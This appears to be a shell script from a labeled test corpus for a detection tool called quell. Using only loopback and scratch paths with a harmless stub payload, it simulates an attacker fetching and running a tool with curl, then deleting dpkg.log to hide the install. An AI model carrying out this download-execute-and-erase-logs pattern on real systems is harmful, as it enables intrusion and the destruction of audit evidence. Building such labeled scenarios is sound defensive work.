#!/bin/sh
# quell labeled corpus scenario (malicious): an attacker with a terminal fetches a tool, then deletes dpkg.log to hide the install
# Run by ../../record-corpus.sh under `quell run --record`; uses only the scratch paths it is given
# ($S below /var/log, $W below /tmp, $E below /etc, $B fake program names), loopback only.
set -u
touch $S/dpkg.log
mkdir -p $W/srv; printf "#!/bin/sh\ntrue\n" > $W/srv/payload
python3 -m http.server --bind 127.0.0.1 $P --directory $W/srv >/dev/null 2>&1 &
SRV=$!
sleep 0.7
script -qec "curl -s -o $W/tool http://127.0.0.1:$P/payload; chmod +x $W/tool; $W/tool; rm -f $S/dpkg.log" /dev/null
kill $SRV 2>/dev/null; wait $SRV 2>/dev/null
